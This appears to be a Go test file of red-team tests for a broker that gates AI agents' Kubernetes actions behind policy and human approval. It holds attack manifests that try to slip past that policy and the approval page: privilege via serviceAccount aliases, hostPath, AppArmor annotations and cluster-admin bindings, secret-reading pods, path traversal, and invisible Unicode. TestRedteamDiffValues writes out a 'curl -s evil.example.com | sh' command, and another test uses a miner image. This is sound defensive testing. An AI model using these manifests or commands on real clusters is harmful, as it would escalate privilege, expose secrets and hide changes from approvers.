package kubernetes

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/goccy/go-yaml"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/airlock-mcp/airlock/masking"
	"github.com/airlock-mcp/airlock/policy"
	"github.com/airlock-mcp/airlock/tools"
)

// Red-team tests of the write and log tools: each attack below once made
// the facts or the approval page say less than what runs.

// applyArgs is kubectl_apply's JSON arguments for manifest on cluster test.
func applyArgs(manifest string) string {
	b, _ := json.Marshal(map[string]string{"resource": "test", "manifest": manifest})
	return string(b)
}

// applyFacts decodes manifest and returns its facts.
func applyFacts(t *testing.T, manifest string) (*policy.K8s, error) {
	t.Helper()
	a, err := (&Apply{}).Decode(json.RawMessage(applyArgs(manifest)))
	if err != nil {
		return nil, err
	}
	f, err := (&Apply{}).Facts(a)
	if err != nil {
		return nil, err
	}
	return f.K8s, nil
}

// TestRedteamServiceAccountAlias: spec.serviceAccount is the deprecated
// alias of serviceAccountName, and the API server still honours it: the
// pod template runs as that ServiceAccount. The facts must say
// serviceAccountName is set, or a policy written on serviceAccountName
// (the example's) lets it through.
func TestRedteamServiceAccountAlias(t *testing.T) {
	f := newWriteFixture(t)
	manifest := "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: sa-alias, namespace: " + f.ns + "}\n" +
		"spec:\n  selector: {matchLabels: {app: sa-alias}}\n  template:\n    metadata: {labels: {app: sa-alias}}\n" +
		"    spec:\n      serviceAccount: operator\n      containers: [{name: app, image: nginx:1.27}]\n"
	facts, err := applyFacts(t, manifest)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(facts.FieldsChanged, "spec.template.spec.serviceAccountName") {
		t.Errorf("fields_changed %v does not say the pod template's serviceAccountName is set", facts.FieldsChanged)
	}
	// What the cluster makes of it: the alias sets serviceAccountName.
	if _, err := f.run(t, &Apply{}, f.mint(t, "operator", f.alice), testLimits, applyArgs(manifest)); err != nil {
		t.Fatalf("apply: %v", err)
	}
	if got := f.deployment(t, "sa-alias").Spec.Template.Spec.ServiceAccountName; got != "operator" {
		t.Fatalf("stored serviceAccountName %q, want operator (the alias took effect)", got)
	}
}

// TestRedteamAppArmorAnnotation: the deprecated AppArmor annotation still
// sets a container's securityContext.appArmorProfile when the pod is
// created, so a manifest could make a container unconfined without a
// field named securityContext. The facts must name the field it sets.
func TestRedteamAppArmorAnnotation(t *testing.T) {
	f := newWriteFixture(t)
	facts, err := applyFacts(t, "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: api, namespace: web}\nspec:\n  template:\n"+
		"    metadata:\n      annotations: {container.apparmor.security.beta.kubernetes.io/app: unconfined}\n"+
		"    spec:\n      containers: [{name: app, image: nginx:1.27}]\n")
	if err != nil {
		t.Fatal(err)
	}
	if want := "spec.template.spec.containers[name=app].securityContext.appArmorProfile"; !slices.Contains(facts.FieldsChanged, want) {
		t.Errorf("fields_changed %v does not name %s", facts.FieldsChanged, want)
	}
	// What the API server makes of the annotation on a pod it creates (a
	// dry run: no kubelet here).
	p, err := f.k.Admin.CoreV1().Pods(f.ns).Create(context.Background(), &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "aa", Annotations: map[string]string{"container.apparmor.security.beta.kubernetes.io/app": "unconfined"}},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "nginx:1.27"}}},
	}, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
	if err != nil {
		t.Fatal(err)
	}
	sc := p.Spec.Containers[0].SecurityContext
	if sc == nil || sc.AppArmorProfile == nil || sc.AppArmorProfile.Type != corev1.AppArmorProfileTypeUnconfined {
		t.Fatalf("the API server did not turn the annotation into an AppArmor profile: %+v", sc)
	}
}

// TestRedteamExamplePolicyBypasses: manifests that reach what the example
// policy means to deny (privilege, host access, another ServiceAccount)
// by another field, or read Secrets the operator grant may not read by
// mounting them into a pod whose log the agent then reads.
func TestRedteamExamplePolicyBypasses(t *testing.T) {
	deploy := func(podSpec string) string {
		return "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: api, namespace: web}\nspec:\n  template:\n    spec:\n" + podSpec
	}
	cases := []struct{ name, manifest, rule string }{
		{"deprecated serviceAccount alias", deploy("      serviceAccount: admin\n      containers: [{name: app}]\n"), "no-privilege-changes-through-agents"},
		{"hostPath volume", deploy("      volumes: [{name: root, hostPath: {path: /}}]\n      containers: [{name: app, volumeMounts: [{name: root, mountPath: /host}]}]\n"), "no-privilege-changes-through-agents"},
		{"AppArmor annotation", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  namespace: web\n  annotations: {container.apparmor.security.beta.kubernetes.io/app: unconfined}\nspec:\n  containers: [{name: app}]\n", "no-privilege-changes-through-agents"},
		{"hostIPC", deploy("      hostIPC: true\n      containers: [{name: app}]\n"), "no-privilege-changes-through-agents"},
		{"privileged in a CronJob's pod template", "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: c, namespace: web}\nspec:\n  schedule: '* * * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers: [{name: app, securityContext: {privileged: true}}]\n", "no-privilege-changes-through-agents"},
		{"secret volume", "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: web}\nspec:\n  volumes: [{name: s, secret: {secretName: db}}]\n  containers: [{name: app, command: [cat, /s/password], volumeMounts: [{name: s, mountPath: /s}]}]\n", "no-secret-reads-through-workloads"},
		{"projected secret", "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: web}\nspec:\n  volumes: [{name: s, projected: {sources: [{secret: {name: db}}]}}]\n  containers: [{name: app}]\n", "no-secret-reads-through-workloads"},
		{"env secretKeyRef", deploy("      containers: [{name: app, env: [{name: X, valueFrom: {secretKeyRef: {name: db, key: password}}}]}]\n"), "no-secret-reads-through-workloads"},
		{"scale to zero by apply", strings.Replace(deploy("      containers: [{name: app}]\n"), "spec:\n  template:", "spec:\n  replicas: 0\n  template:", 1), "no-scaling-through-apply"},
		{"scale past twenty by an autoscaler", "apiVersion: autoscaling/v2\nkind: HorizontalPodAutoscaler\nmetadata: {name: api, namespace: web}\nspec:\n  minReplicas: 100\n  maxReplicas: 200\n  scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: api}\n", "no-scaling-through-apply"},
		{"kube-system by the manifest's namespace (held)", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: kube-system}\n", "kube-system-off-limits"},
		{"owner reference (a later delete of the owner cascades)", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n  namespace: web\n  ownerReferences: [{apiVersion: v1, kind: ConfigMap, name: scratch, uid: 6b1c3f0e-0000-4000-8000-000000000000}]\n", "no-owner-or-traffic-takeover-through-agents"},
		{"Service externalIPs", "apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: web}\nspec:\n  ports: [{port: 443}]\n  externalIPs: [10.0.0.1]\n", "no-owner-or-traffic-takeover-through-agents"},
		{"envFrom secretRef", deploy("      containers: [{name: app, envFrom: [{secretRef: {name: db}}]}]\n"), "no-secret-reads-through-workloads"},
	}
	var b strings.Builder
	b.WriteString("cases:\n")
	for _, c := range cases {
		fmt.Fprintf(&b, "  - name: %q\n    identity: {subject: alice, groups: [eng]}\n    tool: kubectl_apply\n    resource: prod\n    args:\n      manifest: %q\n    expect: {effect: deny, rule: %s}\n", c.name, c.manifest, c.rule)
	}
	runExampleCases(t, b.String())
}

// runExampleCases runs cases (a case file's YAML) against the example
// policy, as TestExamplePolicy does.
func runExampleCases(t *testing.T, text string) {
	t.Helper()
	p, err := policy.Load("../../examples/policies/kubernetes.yaml")
	if err != nil {
		t.Fatal(err)
	}
	cases, err := policy.ParseCases([]byte(text), "redteam")
	if err != nil {
		t.Fatal(err)
	}
	cfgData, err := os.ReadFile("../../examples/kubernetes/airlock.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var cfg struct {
		Resources []tools.ResourceSpec `yaml:"resources"`
	}
	if err := yaml.Unmarshal(cfgData, &cfg); err != nil {
		t.Fatal(err)
	}
	specs := map[string]tools.ResourceSpec{}
	for _, s := range cfg.Resources {
		specs[s.Name] = s
	}
	results := policy.RunCases(p, cases, func(c policy.Case) (policy.Input, error) {
		spec := specs[c.Resource]
		return tools.CaseInput(&Apply{}, c, &spec)
	})
	for _, r := range results {
		if !r.Pass {
			t.Error(r.String())
		}
	}
}

// TestRedteamDiffMasksLiveEnvSecrets: an apply that changes a
// secret-looking env value shows the live value in the dry-run diff, which
// goes to the approval page, the webhook and the transcript. Reads always
// mask such values; the diff must too (and still say that it changes).
func TestRedteamDiffMasksLiveEnvSecrets(t *testing.T) {
	f := newWriteFixture(t)
	manifest := func(password, mode string) string {
		return "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: envs, namespace: " + f.ns + "}\n" +
			"spec:\n  selector: {matchLabels: {app: envs}}\n  template:\n    metadata: {labels: {app: envs}}\n" +
			"    spec:\n      containers:\n      - name: app\n        image: nginx:1.27\n        env: [{name: DB_PASSWORD, value: " + password + "}, {name: MODE, value: " + mode + "}]\n"
	}
	if _, err := f.run(t, &Apply{}, f.mint(t, "operator", f.alice), testLimits, applyArgs(manifest("live-hunter2-value", "slow"))); err != nil {
		t.Fatal(err)
	}
	imp, err := f.preview(t, &Apply{}, "operator", applyArgs(manifest("agent-new-value", "fast")))
	if err != nil {
		t.Fatal(err)
	}
	// The broker masks the plan as text with the default profile.
	eng, err := masking.New(masking.DefaultConfig(), nil)
	if err != nil {
		t.Fatal(err)
	}
	p, _ := eng.Profile("default")
	plan, _, err := p.MaskText(imp.Plan)
	if err != nil {
		t.Fatal(err)
	}
	mustNotContain(t, "approval plan", plan, "live-hunter2-value", "agent-new-value")
	mustContain(t, "approval plan", plan,
		`~ spec.template.spec.containers[name=app].env[name=DB_PASSWORD].value: [MASKED] → [MASKED, changed]`,
		`~ spec.template.spec.containers[name=app].env[name=MODE].value: "slow" → "fast"`)
}

// TestRedteamDiffCapHidesChange: the diff showed its first 200 lines in
// path order, so 200 labels (metadata sorts before spec) pushed the real
// change out of sight behind "… and N more". A diff that cannot be shown
// whole is no preview: the approver is told why instead.
func TestRedteamDiffCapHidesChange(t *testing.T) {
	f := newWriteFixture(t)
	manifest := func(labels int, image string) string {
		var b strings.Builder
		for i := range labels {
			fmt.Fprintf(&b, "    l%03d: x\n", i)
		}
		return "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: big\n  namespace: " + f.ns + "\n  labels:\n    app: big\n" + b.String() +
			"spec:\n  selector: {matchLabels: {app: big}}\n  template:\n    metadata: {labels: {app: big}}\n" +
			"    spec:\n      containers: [{name: app, image: " + image + "}]\n"
	}
	if _, err := f.run(t, &Apply{}, f.mint(t, "operator", f.alice), testLimits, applyArgs(manifest(0, "nginx:1.27"))); err != nil {
		t.Fatal(err)
	}
	imp, err := f.preview(t, &Apply{}, "operator", applyArgs(manifest(205, "evil.example.com/miner:1")))
	if err == nil {
		if !strings.Contains(imp.Plan, "evil.example.com/miner:1") {
			t.Fatalf("the image change is not on the approval page:\n…%s", imp.Plan[max(0, len(imp.Plan)-300):])
		}
		return
	}
	if !errors.Is(err, tools.ErrNoPreview) {
		t.Fatalf("preview: %v, want a plan showing the change or ErrNoPreview", err)
	}
	mustContain(t, "no-preview reason", err.Error(), "206 fields", "at most 200")
}

// TestRedteamDiffValues: a long value was cut at 160 bytes, so what ran
// after them (a command's tail) was not shown; invisible and bidi control
// characters reached the approval page as they are, so a value could read
// differently from what it is.
func TestRedteamDiffValues(t *testing.T) {
	live := map[string]any{"kind": "Deployment", "metadata": map[string]any{"name": "x"}}
	long := "echo ok" + strings.Repeat(" ", 200) + "; curl -s evil.example.com | sh"
	next0 := map[string]any{"kind": "Deployment", "metadata": map[string]any{"name": "x"}, "spec": map[string]any{"args": "a && b > c"}}
	mustContain(t, "diff", strings.Join(objectDiff(live, next0), "\n"), `+ spec.args: "a && b > c"`)
	next := map[string]any{"kind": "Deployment", "metadata": map[string]any{"name": "x"},
		"spec": map[string]any{"command": []any{"sh", "-c", long}, "note": "safe \u202ehs|lave\u202c \u200bdone"}}
	got := strings.Join(objectDiff(live, next), "\n")
	mustContain(t, "diff", got,
		`+ spec.command[2]: "echo ok⟨200 spaces⟩; curl -s evil.example.com | sh" (240 bytes)`,
		`+ spec.note: "safe \u202ehs|lave\u202c \u200bdone"`)
	mustNotContain(t, "diff", got, "\u202e", "\u200b", "\u202c")
	// A value too long to show whole keeps its head and its tail, and says
	// how much is not shown.
	script := "#!/bin/sh\n" + strings.Repeat("echo step; ", 200) + "curl -s evil.example.com | sh"
	next["spec"] = map[string]any{"script": script}
	got = strings.Join(objectDiff(live, next), "\n")
	mustContain(t, "diff", got, `+ spec.script: "#!/bin/sh\necho step;`, "bytes not shown⟩…", `curl -s evil.example.com | sh" (2242 bytes)`)
}

// TestRedteamApplyVersion: the manifest's version went into the request
// path as written, so apiVersion "apps/v1/../../api/v1" sent the patch
// to another group than the facts named.
func TestRedteamApplyVersion(t *testing.T) {
	for _, v := range []string{"apps/v1/../../api/v1", "apps/v1/x", "apps/", "apps/V1", "apps/v1 "} {
		_, err := applyFacts(t, "apiVersion: '"+v+"'\nkind: Deployment\nmetadata: {name: a, namespace: web}\n")
		if !errors.Is(err, tools.ErrInvalidArguments) && !errors.Is(err, tools.ErrOpaque) {
			t.Errorf("apiVersion %q: %v, want refused", v, err)
		}
	}
	for _, v := range []string{"apps/v1", "apps/v1beta2", "v1"} {
		kind := "Deployment"
		if v == "v1" {
			kind = "ConfigMap"
		}
		if _, err := applyFacts(t, "apiVersion: "+v+"\nkind: "+kind+"\nmetadata: {name: a, namespace: web}\n"); err != nil {
			t.Errorf("apiVersion %q: %v", v, err)
		}
	}
}

// TestRedteamHeld: attacks on the manifest's parsing that the design
// already stops; kept so they stay stopped.
func TestRedteamHeld(t *testing.T) {
	// A merge key and an alias bring securityContext in: the facts see it,
	// since they come from the same parsed object that is sent.
	facts, err := applyFacts(t, "x: &sc {securityContext: {privileged: true}}\napiVersion: apps/v1\nkind: Deployment\n"+
		"metadata: {name: a, namespace: web}\nspec:\n  template:\n    spec:\n      containers: [{name: app, <<: *sc}]\n")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(facts.FieldsChanged, "spec.template.spec.containers[name=app].securityContext.privileged") {
		t.Errorf("merge key: fields_changed %v", facts.FieldsChanged)
	}
	// Duplicate keys, YAML or JSON: two parsers could pick different ones.
	for _, m := range []string{
		"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: web, namespace: kube-system}\n",
		`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"a","namespace":"web","namespace":"kube-system"}}`,
	} {
		if _, err := applyFacts(t, m); !errors.Is(err, tools.ErrInvalidArguments) {
			t.Errorf("duplicate keys %q: %v, want invalid", m, err)
		}
	}
	// Kinds: casing, old groups, a List, Secrets by another spelling.
	for m, want := range map[string]error{
		"apiVersion: apps/v1\nkind: deployment\nmetadata: {name: a}\n":                  tools.ErrOpaque,
		"apiVersion: extensions/v1beta1\nkind: Deployment\nmetadata: {name: a}\n":       tools.ErrOpaque,
		"apiVersion: v1\nkind: ConfigMapList\nitems: []\n":                              tools.ErrOpaque,
		"apiVersion: v1\nkind: Secret\nmetadata: {name: a}\nstringData: {a: b}\n":       tools.ErrInvalidArguments,
		"apiVersion: v1\nkind: Namespace\nmetadata: {name: a, namespace: web}\n":        tools.ErrInvalidArguments,
		"apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: a-, namespace: w}\n": tools.ErrOpaque,
	} {
		if _, err := applyFacts(t, m); !errors.Is(err, want) {
			t.Errorf("%q: %v, want %v", m, err, want)
		}
	}
}

// TestRedteamLogsDefaultContainer: with container left out, kubectl_logs
// followed the pod's kubectl.kubernetes.io/default-container annotation,
// so it read a container policy never saw (k8s.container was empty) and
// that whoever made the pod chose. With several containers the call must
// name one.
func TestRedteamLogsDefaultContainer(t *testing.T) {
	f := newFixture(t)
	if _, err := f.k.Admin.CoreV1().Pods(f.ns).Create(context.Background(), &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "two", Annotations: map[string]string{"kubectl.kubernetes.io/default-container": "vault-agent"}},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "nginx:1.27"}, {Name: "vault-agent", Image: "vault:1"}}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	_, err := f.run(t, &Logs{}, f.mint(t, "viewer", f.alice), testLimits, `{"resource":"test","pod":"two","namespace":"`+f.ns+`"}`)
	if !errors.Is(err, tools.ErrInvalidArguments) {
		t.Fatalf("logs without container: %v, want invalid arguments", err)
	}
	mustContain(t, "error", err.Error(), "2 containers (app, vault-agent); say which with container")
}

// TestRedteamDiffDuplicateNames: lists of objects were keyed by their
// name, but a name need not be unique (volumeMounts merge on mountPath:
// two mounts of one volume share its name), so one entry overwrote the
// other and a new mount of a volume already mounted did not show in the
// diff at all.
func TestRedteamDiffDuplicateNames(t *testing.T) {
	f := newWriteFixture(t)
	manifest := func(mounts string) string {
		return "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: mounts, namespace: " + f.ns + "}\n" +
			"spec:\n  selector: {matchLabels: {app: mounts}}\n  template:\n    metadata: {labels: {app: mounts}}\n" +
			"    spec:\n      volumes: [{name: data, emptyDir: {}}]\n" +
			"      containers: [{name: app, image: nginx:1.27, volumeMounts: [" + mounts + "]}]\n"
	}
	if _, err := f.run(t, &Apply{}, f.mint(t, "operator", f.alice), testLimits, applyArgs(manifest("{name: data, mountPath: /data}"))); err != nil {
		t.Fatal(err)
	}
	imp, err := f.preview(t, &Apply{}, "operator", applyArgs(manifest("{name: data, mountPath: /usr/bin}, {name: data, mountPath: /data}")))
	if err != nil {
		t.Fatal(err)
	}
	mustContain(t, "diff", imp.Plan, `"/usr/bin"`)
	mustNotContain(t, "diff", imp.Plan, ": no change")
}

// TestRedteamHeldArguments: argument attacks on scale, delete and logs
// that Decode and Facts already stop.
func TestRedteamHeldArguments(t *testing.T) {
	for _, c := range []struct {
		tool tools.Tool
		args string
		want error
	}{
		{&Scale{}, `{"kind":"deploy","name":"a","current_replicas":1,"replicas":-1}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"deploy","name":"a","current_replicas":1,"replicas":10001}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"deploy","name":"a","current_replicas":1,"replicas":2.5}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"deploy","name":"a","current_replicas":1,"replicas":1e1}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"deploy","name":"a","current_replicas":1,"replicas":"3"}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"deploy","name":"a","replicas":3}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"daemonsets","name":"a","current_replicas":1,"replicas":3}`, tools.ErrInvalidArguments},
		{&Scale{}, `{"kind":"widgets.example.com","name":"a","current_replicas":1,"replicas":3}`, tools.ErrOpaque},
		{&Delete{}, `{"kind":"configmap","name":".."}`, tools.ErrInvalidArguments},
		{&Delete{}, `{"kind":"configmap","name":"a/b"}`, tools.ErrInvalidArguments},
		{&Delete{}, `{"kind":"configmap","name":"%2e%2e"}`, tools.ErrInvalidArguments},
		{&Delete{}, `{"kind":"configmap","name":"a?dryRun=None"}`, tools.ErrInvalidArguments},
		// A cluster-wide kind takes no namespace (an approver could read
		// it as a namespaced object); without one it reaches policy, and
		// is refused at execution unless the resource lists it
		// (TestRedteamClusterWideUnlisted).
		{&Delete{}, `{"kind":"nodes","name":"n1","namespace":"web"}`, tools.ErrInvalidArguments},
		{&Delete{}, `{"kind":"namespaces","name":"web","namespace":"web"}`, tools.ErrInvalidArguments},
		{&Delete{}, `{"kind":"crd","name":"x","namespace":"default"}`, tools.ErrInvalidArguments},
		{&RolloutRestart{}, `{"kind":"nodes","name":"n1"}`, tools.ErrInvalidArguments},
		{&Delete{}, `{"kind":"widgets.example.com","name":"x"}`, tools.ErrOpaque},
		{&Delete{}, `{"kind":"configmap","name":"a","namespace":"../kube-system"}`, tools.ErrInvalidArguments},
		{&Logs{}, `{"pod":"p","container":"app?follow=true"}`, tools.ErrInvalidArguments},
		{&Logs{}, `{"pod":"p","container":"../../secrets"}`, tools.ErrInvalidArguments},
		{&Logs{}, `{"pod":"p","since":"-1s"}`, tools.ErrInvalidArguments},
		{&Logs{}, `{"pod":"p","since":"1000h"}`, tools.ErrInvalidArguments},
		{&Logs{}, `{"pod":"p","tail_lines":0}`, tools.ErrInvalidArguments},
		{&Events{}, `{"kind":"pod","name":"p,involvedObject.namespace=kube-system"}`, tools.ErrInvalidArguments},
	} {
		checkRefused(t, c.tool, c.args, c.want)
	}
}

// TestRedteamClusterWideUnlisted: a cluster-wide delete or apply that
// policy let through (or an approver approved) on a resource whose
// cluster_scoped_writes does not list the kind is refused by Execute and
// Preview before any request: the resource here points at no cluster, and
// the call carries no credential.
func TestRedteamClusterWideUnlisted(t *testing.T) {
	spec := validSpec()
	spec.ClusterScopedWrites = []string{"priorityclasses.scheduling.k8s.io"}
	r, err := NewKind().Open(spec, testEnv)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	manifest := func(m string) string {
		b, _ := json.Marshal(map[string]string{"resource": "prod", "manifest": m})
		return string(b)
	}
	for _, c := range []struct {
		tool tools.Tool
		args string
	}{
		{&Delete{}, `{"resource":"prod","kind":"nodes","name":"n1"}`},
		{&Delete{}, `{"resource":"prod","kind":"Namespace","name":"web"}`},
		{&Delete{}, `{"resource":"prod","kind":"crd","name":"widgets.example.com"}`},
		{&Delete{}, `{"resource":"prod","kind":"clusterrolebindings.rbac.authorization.k8s.io","name":"cluster-admin"}`},
		{&Apply{}, manifest("apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n")},
		{&Apply{}, manifest("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: me}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n")},
	} {
		a, err := c.tool.Decode(json.RawMessage(c.args))
		if err != nil {
			t.Fatalf("%s %s: %v", c.tool.Name(), c.args, err)
		}
		facts, err := c.tool.Facts(a)
		if err != nil || facts.K8s.Namespace != "" {
			t.Fatalf("%s %s: facts %+v, %v; want namespace \"\"", c.tool.Name(), c.args, facts.K8s, err)
		}
		if _, err := c.tool.Execute(context.Background(), tools.Target{Resource: r, Limits: testLimits}, a); !errors.Is(err, ErrClusterScoped) || !strings.Contains(err.Error(), "cluster_scoped_writes") {
			t.Errorf("%s %s: Execute = %v, want ErrClusterScoped", c.tool.Name(), c.args, err)
		}
		_, err = c.tool.(tools.Previewer).Preview(context.Background(), tools.PreviewTarget{Resource: r, GrantName: "viewer", Grant: spec.Grants["viewer"]}, a, facts)
		if !errors.Is(err, ErrClusterScoped) {
			t.Errorf("%s %s: Preview = %v, want ErrClusterScoped", c.tool.Name(), c.args, err)
		}
	}
}

// checkRefused decodes args (resource added) and asks for facts: the
// error must be want.
func checkRefused(t *testing.T, tool tools.Tool, args string, want error) {
	t.Helper()
	a, err := tool.Decode(json.RawMessage(`{"resource":"test",` + args[1:]))
	if err == nil {
		_, err = tool.Facts(a)
	}
	if !errors.Is(err, want) {
		t.Errorf("%s %s: %v, want %v", tool.Name(), args, err, want)
	}
}

// TestRedteamInvisibleNames: object names may hold any character but
// /, %, ?, #, so a bidi override or a zero-width space (valid in the names
// of Roles and other kinds named by path segment) made the name policy
// and the approval page show read as another.
func TestRedteamInvisibleNames(t *testing.T) {
	for _, args := range []string{
		`{"kind":"role","name":"admin\u202enimda"}`,
		`{"kind":"role","name":"admin\u200b"}`,
		`{"kind":"role","name":"a b"}`,
		`{"kind":"role","name":"a\u0000"}`,
	} {
		checkRefused(t, &Delete{}, args, tools.ErrInvalidArguments)
		checkRefused(t, &Get{}, args, tools.ErrInvalidArguments)
	}
}

// TestRedteamLogsCutInsideASecret: the byte cap cut at the last whole
// line, but when the first line alone was longer than the cap it kept the
// cap's bytes of it, so a token at the cut came back in part, too short
// for any detector to know it. A line that does not fit is not shown.
func TestRedteamLogsCutInsideASecret(t *testing.T) {
	f := newFixture(t)
	kl := f.k.StartKubelet(t)
	f.runningPod(t, "api-1", kl.NodeName)
	ctx := context.Background()
	if _, err := f.k.Admin.RbacV1().Roles(f.ns).Create(ctx, &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: "logs"},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/log"}, Verbs: []string{"get"}}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.k.Admin.RbacV1().RoleBindings(f.ns).Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "logs"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "logs"},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: "viewer", Namespace: f.ns}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	f.k.WaitAllowed(t, "system:serviceaccount:"+f.ns+":viewer", nil, authorizationv1.ResourceAttributes{Namespace: f.ns, Verb: "get", Resource: "pods", Subresource: "log"})
	line := "2026-12-01T10:00:01Z starting with token ghp_abcdefghijklmnopqrstuvwxyz0123456789 ok\n"
	kl.SetLog(f.ns, "api-1", "app", line+"2026-12-01T10:00:02Z ready\n")
	small := testLimits
	small.MaxBytes = int64(strings.Index(line, "ghp_") + 20)
	res, text := f.maskedLogs(t, f.mint(t, "viewer", f.alice), small, `{"resource":"test","namespace":"`+f.ns+`","pod":"api-1"}`)
	mustNotContain(t, "capped log", text, "ghp_abcdefghij")
	if !res.Truncated || res.Log != "" {
		t.Errorf("capped log %+v, want truncated and empty", res)
	}
	mustContain(t, "capped log", text, "longer than the cap")
}

// TestRedteamPreviewTokenLifetime: the preview's token was minted for the
// grant's ttl (an hour here) though it serves a few seconds of reads and
// dry runs; it must live the API server's minimum.
func TestRedteamPreviewTokenLifetime(t *testing.T) {
	f := newWriteFixture(t)
	r, err := NewKind().Open(tools.ResourceSpec{
		Name: "test", Kind: KindName, KubeconfigFile: f.k.AdminKubeconfig,
		Grants: map[string]tools.Grant{"operator": {ServiceAccount: f.ns + "/operator", TTL: time.Hour}},
	}, osEnv{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.Close)
	res := r.(*Resource)
	_, stop, target, _, err := previewTarget(context.Background(), tools.PreviewTarget{Resource: res, GrantName: "operator", Grant: res.spec.Grants["operator"], Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	if left := time.Until(target.Credential.(*Credential).Expires()); left > MinTokenTTL+time.Minute {
		t.Errorf("the preview's token lives %v more, want at most %v", left.Round(time.Second), MinTokenTTL)
	}
}

// TestRedteamManifestInvisibleCharacters: the approval page shows the
// manifest's text; a bidi override in a comment or a zero-width character
// in a key made it read otherwise than it parses.
func TestRedteamManifestInvisibleCharacters(t *testing.T) {
	for _, m := range []string{
		"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: web}\n# \u202e}eslaf :derugifnoc{ :atad\ndata: {configured: \"true\"}\n",
		"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: web}\ndata: {\"mode\u200b\": safe}\n",
		"\ufeffapiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: web}\n",
	} {
		if _, err := applyFacts(t, m); !errors.Is(err, tools.ErrInvalidArguments) || !strings.Contains(fmt.Sprint(err), "invisible or control character") {
			t.Errorf("%q: %v, want invalid (invisible character)", m, err)
		}
	}
	if _, err := applyFacts(t, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: web}\ndata:\n\tx: \"caf\u00e9\"\n"); err != nil && strings.Contains(err.Error(), "invisible") {
		t.Errorf("a tab or an accented letter is not invisible: %v", err)
	}
}
